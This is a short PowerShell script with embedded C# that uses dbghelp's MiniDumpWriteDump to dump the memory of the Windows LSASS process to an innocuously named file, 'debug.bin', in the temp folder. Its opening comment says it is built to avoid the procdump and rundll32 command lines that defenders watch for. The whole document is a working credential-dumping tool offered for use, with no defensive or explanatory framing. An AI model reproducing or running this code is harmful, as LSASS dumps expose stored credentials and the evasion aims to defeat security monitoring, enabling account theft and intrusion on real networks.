# LSASS dump through dbghelp, no procdump or rundll32 on the command line
Add-Type -TypeDefinition @'
using System;
using System.Runtime.InteropServices;
using Microsoft.Win32.SafeHandles;
public static class DbgHelp {
    [DllImport("dbghelp.dll", SetLastError = true)]
    public static extern bool MiniDumpWriteDump(IntPtr hProcess, uint processId, SafeFileHandle hFile, uint dumpType, IntPtr exceptionParam, IntPtr userStreamParam, IntPtr callbackParam);
}
'@

$target = Get-Process -Name lsass
$dumpPath = Join-Path -Path $env:TEMP -ChildPath 'debug.bin'
$stream = [System.IO.File]::Create($dumpPath)
try {
    $ok = [DbgHelp]::MiniDumpWriteDump($target.Handle, [uint32]$target.Id, $stream.SafeFileHandle, 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
    if (-not $ok) {
        Write-Warning ('MiniDumpWriteDump failed: {0}' -f [Runtime.InteropServices.Marshal]::GetLastWin32Error())
    }
}
finally {
    $stream.Dispose()
}
